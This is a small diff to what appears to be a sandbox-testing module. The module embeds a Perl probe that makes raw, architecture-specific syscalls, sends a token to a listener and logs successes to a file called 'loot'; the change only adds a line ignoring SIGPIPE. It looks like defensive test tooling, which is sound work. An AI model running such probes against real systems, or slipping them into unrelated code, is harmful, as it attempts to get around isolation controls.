@@ -42,7 +42,7 @@ const table = Object.entries(numbers)
  * token to a listener and keeps what it answers.
  */
 export const perl = `use strict; no warnings; use Socket; my %n=(${table}); my $arm=(\`uname -m\`=~/aarch64/)?1:0;
-my ($WS,$H,$TOKEN,$PID)=@ENV{qw(WS H TOKEN PID)}; $SIG{ALRM}=sub{exit 3}; alarm 6;
+my ($WS,$H,$TOKEN,$PID)=@ENV{qw(WS H TOKEN PID)}; $SIG{PIPE}="IGNORE"; $SIG{ALRM}=sub{exit 3}; alarm 6;
 sub sys { my $k=shift; return syscall($n{$k}[$arm],@_) }
 sub put { open(my $f,">>","$WS/loot"); syswrite($f,$_) for @_; close $f }
 sub worked { put("worked $TOKEN"."\\n") }
